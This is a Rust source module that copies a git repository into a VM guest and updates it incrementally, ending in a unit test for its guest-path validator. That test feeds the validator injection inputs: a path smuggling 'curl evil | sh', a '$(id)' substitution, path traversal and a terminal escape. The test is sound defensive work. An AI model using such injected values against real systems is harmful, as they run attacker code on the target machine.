//! `prepare`: a repository goes into a guest; again, only what changed.

mod history;
mod plan;

use std::collections::{BTreeMap, BTreeSet};
use std::os::fd::AsFd;
use std::path::Path;

use banger_failpoint::{passed, point};
use banger_tree::{Listed, Piece, TreeError};
use lib_guest::{Directory, Guest};
use lib_model::{Progress, WorkspaceRecord};
use lib_store::{Store, VmRow, WorkspaceGuard, WorkspaceRow, WorkspaceSpec, private_dir};
use lib_vm::{Life, VmError};
use plan::Plan;

use crate::collect::{Collected, Collector};
use crate::commits::{self, Commits};
use crate::error::{Result, WsError};
use crate::filtered;
use crate::git::{Git, Scratch};
use crate::guest_git::GuestGit;
use crate::manifest::Manifest;
use crate::place;
use crate::repository::Repository;
use crate::request::{Env, Limits, Mode, Prepare, settled};
use crate::scan::{Content, Scan, scan};
use crate::walk::{parent, shown};

/// The bare repository in the workspace's directory.
pub(crate) const SCRATCH: &str = "scratch.git";

/// Copies a repository into a running VM.
///
/// # Errors
/// See [`WsError`]. When it fails half-way the workspace stays marked as incomplete, and the next `prepare`
/// makes it whole.
pub fn prepare(env: &mut Env<'_>, vm: &VmRow, request: &Prepare) -> Result<WorkspaceRecord> {
    let prepared = copy(env, vm, request);
    settled(env, vm, prepared)
}

fn copy(env: &mut Env<'_>, vm: &VmRow, request: &Prepare) -> Result<WorkspaceRecord> {
    let git = Git::find()?;
    let repository = Repository::find(&git, &request.source)?;
    // The directory that was named may be no repository of its own, and its owner not know that.
    if request.source.canonicalize().ok().as_ref() != Some(&repository.top) {
        (env.note)(&format!(
            "{} is in the repository {}: all of that goes",
            request.source.display(),
            repository.top.display()
        ));
    }
    let base = match &request.from {
        Some(from) => Some(
            git.of_user(&repository.top, "rev-parse")
                .args(["-q", "--verify", "--end-of-options"])
                .arg(format!("{from}^{{commit}}"))
                .line_if_any()?
                .ok_or_else(|| WsError::Usage {
                    what: format!(
                        "there is no commit `{from}` in {}",
                        repository.top.display()
                    ),
                    hint: "git log --all --oneline".into(),
                })?,
        ),
        None => repository.head.clone(),
    };
    let branch = branch(&git, &repository, request)?;
    let vm = running(env, vm)?;
    let guest = env.guest(&vm);
    let guard = env.locks.workspace(&vm.id)?;
    let store = &mut *env.store;
    let interrupt = env.interrupt.signals().map(AsFd::as_fd);
    let wanted = match &request.path {
        Some(path) => path.clone(),
        None => default_path(&repository.top),
    };
    let user = request.user.as_deref();
    let mut directory = guest.open_directory(wanted.as_bytes(), user, true, interrupt)?;
    let path = agreed(&wanted, directory.path())?;
    if path.is_empty() {
        return Err(WsError::Usage {
            what: "a workspace cannot be at / in the VM".into(),
            hint: "banger-ws prepare --path /src …".into(),
        });
    }
    let known = store.workspaces_of(&vm.id)?;
    let known = known.into_iter().find(|row| row.path == path);
    refuse_foreign(known.as_ref(), &directory, &vm, &path, &repository, request)?;
    let guest_git = GuestGit {
        guest: &guest,
        path: &path,
        user,
        interrupt: env.interrupt,
    };
    let has_git = request.mode != Mode::WorktreeOnly && guest_git.is_there()?;
    if request.mode != Mode::WorktreeOnly && !has_git {
        (env.note)(&format!(
            "{} has no git: it gets the files without their history; changes can be exported all the same",
            vm.name
        ));
    }
    let spec = WorkspaceSpec {
        mode: request.mode.as_str().into(),
        branch,
        from: request.from.clone(),
        base,
        include_ignored: request.include_ignored.clone(),
        user: request.user.clone(),
        git: has_git,
        readonly: request.readonly,
        ..WorkspaceSpec::default()
    };
    let row = match &known {
        // It stays whole until something of it is touched.
        Some(known) => WorkspaceRow {
            source: repository.top.clone(),
            spec,
            ..known.clone()
        },
        None => store.begin_workspace(&guard, &path, &repository.top, &spec)?,
    };
    passed("workspace.begun");
    let workspace = env.context.workspace(&vm.id, &row.id);
    if let Some(parent) = workspace.parent() {
        private_dir(parent)?;
    }
    private_dir(&workspace)?;
    let mut preparation = Preparation {
        store,
        progress: env.progress,
        note: env.note,
        guard: &guard,
        vm: &vm,
        git: &git,
        guest: &guest,
        guest_git: &guest_git,
        repository: &repository,
        request,
        directory: &mut directory,
        workspace: &workspace,
        // Whoever was cut off had perhaps another wish.
        was_readonly: known
            .as_ref()
            .is_some_and(|known| known.spec.readonly || known.prepared_ms.is_none()),
        was_git: known.as_ref().is_some_and(|known| known.spec.git),
        old_base: None,
        row,
    };
    let changed = preparation.run()?;
    let record = preparation.row.record(&vm);
    Ok(WorkspaceRecord { changed, ..record })
}

/// The row as it is now, of a VM that runs. `vm[id]` is held only for this, and never while bytes move.
pub(crate) fn running(env: &mut Env<'_>, vm: &VmRow) -> Result<VmRow> {
    let guard = env.locks.vm(&vm.id)?;
    let vm = env.store.vm_again(&guard, vm)?;
    if lib_vm::life(env.context, &vm) == Life::Dead {
        let vm = vm.name.to_string();
        return Err(VmError::NotRunning { vm }.into());
    }
    Ok(vm)
}

/// Why a listing is left that has more than any directory.
fn endless() -> TreeError {
    TreeError::Refused("a directory in the VM does not end".to_owned())
}

/// Where the guest put what was wanted there. It may say where its user's home is, and no more: people copy commands
/// with this path in them.
fn agreed(wanted: &str, said: &[u8]) -> Result<String> {
    let refused = || {
        WsError::Refused(format!(
            "the VM puts {wanted} at {}; say where it belongs: --path /DIRECTORY",
            shown(said)
        ))
    };
    let said = str::from_utf8(said).map_err(|_| refused())?;
    let path = said.trim_end_matches('/');
    let wanted = wanted.trim_end_matches('/');
    let plain = |home: &str| {
        let lawful = |c: char| c.is_alphanumeric() || "/._-@+".contains(c);
        home.starts_with('/') && home.chars().all(lawful) && !home.contains("/../")
    };
    let lawful = match path.strip_suffix(wanted) {
        _ if wanted.is_empty() => plain(said),
        Some("") => path.starts_with('/'),
        Some(home) => !wanted.starts_with('/') && home.ends_with('/') && plain(home),
        None => false,
    };
    match lawful {
        true => Ok(path.to_owned()),
        false => Err(refused()),
    }
}

/// The repository's name, below the user's home.
fn default_path(top: &Path) -> String {
    let name = top
        .file_name()
        .map(|name| name.to_string_lossy().into_owned());
    name.unwrap_or_else(|| "workspace".into())
}

fn branch(git: &Git, repository: &Repository, request: &Prepare) -> Result<Option<String>> {
    let Some(branch) = &request.branch else {
        // Another commit than the branch's is on no branch.
        return Ok(match request.from {
            Some(_) => None,
            None => repository.branch.clone(),
        });
    };
    git.check_branch(&repository.top, branch)?;
    Ok(Some(branch.clone()))
}

fn refuse_foreign(
    known: Option<&WorkspaceRow>,
    directory: &Directory<'_>,
    vm: &VmRow,
    path: &str,
    repository: &Repository,
    request: &Prepare,
) -> Result<()> {
    let refused = |what: String| {
        Err(WsError::Usage {
            what,
            hint: "banger-ws prepare --path ELSEWHERE …   (or --force, to overwrite)".into(),
        })
    };
    match known {
        _ if request.force => Ok(()),
        Some(known) if known.source != repository.top => refused(format!(
            "{path} in {} is the workspace of {}",
            vm.name,
            known.source.display()
        )),
        None if !directory.was_empty() => refused(format!("{path} in {} is not empty", vm.name)),
        _ => Ok(()),
    }
}

struct Preparation<'a, 'd> {
    store: &'a mut Store,
    progress: &'a dyn Progress,
    note: &'a dyn Fn(&str),
    guard: &'a WorkspaceGuard<'a>,
    vm: &'a VmRow,
    git: &'a Git,
    guest: &'a Guest,
    guest_git: &'a GuestGit<'a>,
    repository: &'a Repository,
    request: &'a Prepare,
    directory: &'a mut Directory<'d>,
    workspace: &'a Path,
    was_readonly: bool,
    was_git: bool,
    /// The commit of the last copy that was whole.
    old_base: Option<String>,
    row: WorkspaceRow,
}

impl Preparation<'_, '_> {
    /// Returns whether anything changed.
    fn run(&mut self) -> Result<bool> {
        let scratch_path = self.workspace.join(SCRATCH);
        if !scratch_path.join("objects").is_dir() {
            self.git
                .make_scratch(&scratch_path, &self.repository.format)?;
        }
        let from = self.row.spec.from.as_ref().and(self.row.spec.base.clone());
        let step = self.progress.step("looking at the repository", None);
        let mut scan = scan(
            self.git,
            self.repository,
            &scratch_path,
            from.as_deref(),
            &self.request.include_ignored,
        )?;
        step.done("");
        for words in &scan.left_out {
            (self.note)(&format!("not copied: {words}"));
        }
        let old = match Manifest::load(self.workspace) {
            Ok(old) => old.filter(|old| old.format == scan.manifest.format),
            Err(_) if self.request.force => None,
            Err(error) => return Err(error),
        };
        filtered::name(self.git, self.repository, &mut scan, old.as_ref())?;
        if let Some(old) = &old {
            self.old_base = old.roots[0].base.clone();
            self.was_git = old.git.unwrap_or(self.was_git);
        }
        let scratch = self.scratch(&scan, old.as_ref());
        let cut_off = Manifest::cut_off(self.workspace);
        let collected = match &old {
            Some(old) => self
                .collect(&scratch, old, &cut_off)
                .map_err(|error| match error {
                    WsError::Limit { what, .. } => WsError::Limit {
                        what,
                        hint: "remove what is generated in the VM, or add it to .gitignore there",
                    },
                    error => error,
                })?,
            None => Collected::default(),
        };
        let plan = plan::plan(&mut scan, old.as_ref(), &cut_off, &collected);
        if !plan.conflicts.is_empty() && !self.request.force {
            return Err(WsError::Conflict {
                what: "changed both here and in the VM",
                paths: plan.conflicts,
                hint: format!(
                    "banger-ws export {}:{}   (or: banger-ws prepare --force …, which throws the VM's away)",
                    self.vm.name, self.row.path
                ),
            });
        }
        let known = old.is_some();
        // As large as the new one.
        drop((old, cut_off));
        let fresh = !known || (self.row.spec.git && !self.was_git);
        let moved = fresh || self.old_base != self.row.spec.base;
        if moved {
            self.refuse_moved(&collected.commits)?;
        }
        // From here on the guest's side changes.
        let (path, source) = (self.row.path.clone(), self.row.source.clone());
        let begun = self
            .store
            .begin_workspace(self.guard, &path, &source, &self.row.spec);
        self.row = begun?;
        if self.was_readonly {
            self.guest.protect(path.as_bytes(), false)?;
        }
        scan.manifest.git = Some(self.row.spec.git);
        if known && (moved || !(plan.send.is_empty() && plan.remove.is_empty())) {
            scan.manifest.announce(self.workspace)?;
        }
        self.history(fresh, moved)?;
        point("workspace.copy").map_err(WsError::io("write to", self.workspace))?;
        let remove: Vec<Vec<u8>> = plan.remove.iter().cloned().collect();
        self.directory.remove(&remove)?;
        self.send(&mut scan, &plan)?;
        if self.row.spec.git && moved {
            self.index(&scratch, &scan.manifest)?;
        }
        passed("workspace.copied");
        scan.manifest.save(self.workspace)?;
        Manifest::forget_cut_off(self.workspace);
        let changed = moved || !plan.send.is_empty() || !plan.remove.is_empty();
        if self.row.spec.readonly {
            self.guest.protect(self.row.path.as_bytes(), true)?;
        }
        self.store.finish_workspace(self.guard, &mut self.row)?;
        Ok(changed)
    }

    fn scratch(&self, scan: &Scan, old: Option<&Manifest>) -> Scratch {
        let mut alternates = scan.manifest.alternates();
        alternates.extend(old.map(Manifest::alternates).unwrap_or_default());
        alternates.sort_unstable();
        alternates.dedup();
        Scratch {
            git: self.git.clone(),
            path: self.workspace.join(SCRATCH),
            alternates,
        }
    }

    /// What was changed in the guest since the last copy.
    fn collect(
        &mut self,
        scratch: &Scratch,
        old: &Manifest,
        cut_off: &[Manifest],
    ) -> Result<Collected> {
        let limits = Limits::default();
        let base = old.roots[0].base.as_deref();
        let mut commits = match self.row.spec.git && self.was_git {
            true => commits::collect(scratch, self.guest_git, base, &old.format, limits)?,
            false => Commits::default(),
        };
        // The guest is at a commit that a copy that was cut off had brought.
        if cut_off.iter().any(|sent| sent.roots[0].base == commits.tip) {
            commits = Commits::default();
        }
        let collector = Collector {
            scratch,
            manifest: old,
            include_ignored: &self.request.include_ignored,
            limits,
            progress: &|_| {},
        };
        collector.collect(self.directory, commits)
    }

    /// Sends files, and learns how the guest's file system has them.
    fn send(&mut self, scan: &mut Scan, plan: &Plan) -> Result<()> {
        let paths: Vec<Vec<u8>> = plan.send.iter().cloned().collect();
        let sent = match scan.content {
            Content::Worktree => {
                place::worktree(self.directory, self.repository, scan, &paths, self.progress)?
            }
            Content::Objects => place::objects(
                self.git,
                self.directory,
                self.repository,
                scan,
                &paths,
                self.progress,
            )?,
        };
        self.row.spec.sent_files = sent.len() as u64;
        self.row.spec.sent_bytes = sent.values().map(|(size, _)| size).sum();
        let directories: BTreeSet<Vec<u8>> = sent.keys().map(|path| parent(path)).collect();
        let directories: Vec<Vec<u8>> = directories.into_iter().collect();
        let mut found: BTreeMap<Vec<u8>, Listed> = BTreeMap::new();
        let (mut at, mut left) = (0, Limits::default().entries);
        self.directory.list(&directories, |piece| {
            match piece {
                Piece::Directory => at += 1,
                Piece::Missing => {}
                Piece::Entry(name, listed) => {
                    left = left.checked_sub(1).ok_or_else(endless)?;
                    let directory = directories.get(at - 1).map(Vec::as_slice);
                    let path = crate::walk::join(directory.unwrap_or_default(), name.as_bytes());
                    // A listing that is longer than what was sent has nothing to do with it.
                    if sent.contains_key(&path) {
                        found.insert(path, listed);
                    }
                }
            }
            Ok(())
        })?;
        for (path, (size, mtime)) in &sent {
            let Some(item) = scan.manifest.items.get_mut(path) else {
                continue;
            };
            // What somebody changed before we looked is looked at again by the next export.
            item.guest = found
                .get(path)
                .filter(|listed| listed.size == *size && listed.mtime == *mtime)
                .filter(|listed| listed.is_file() || listed.is_symlink())
                .copied();
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_guest_says_where_homes_are_and_no_more() {
        for (wanted, said, path) in [
            ("/ws", "/ws", Some("/ws")),
            ("/ws/", "/ws/", Some("/ws")),
            ("app", "/root/app", Some("/root/app")),
            ("app", "/app", Some("/app")),
            ("a/b", "/home/jürgen.x/a/b", Some("/home/jürgen.x/a/b")),
            ("my app (1)", "/root/my app (1)", Some("/root/my app (1)")),
            ("app", "/root; curl evil | sh #/app", None),
            ("app", "/$(id)/app", None),
            ("app", "/root\n/app", None),
            ("app", "/root/../etc/app", None),
            ("app", "/root/other", None),
            ("app", "/rootapp", None),
            ("app", "root/app", None),
            ("app", "app", None),
            ("/ws", "/elsewhere", None),
            ("/ws", "/root/ws", None),
        ] {
            let found = agreed(wanted, said.as_bytes());
            assert_eq!(found.ok().as_deref(), path, "{wanted} at {said}");
        }
        let error = agreed("app", b"/\x1b[2J/app").unwrap_err().to_string();
        assert!(
            error.contains("--path /") && !error.contains('\x1b'),
            "{error}"
        );
    }
}
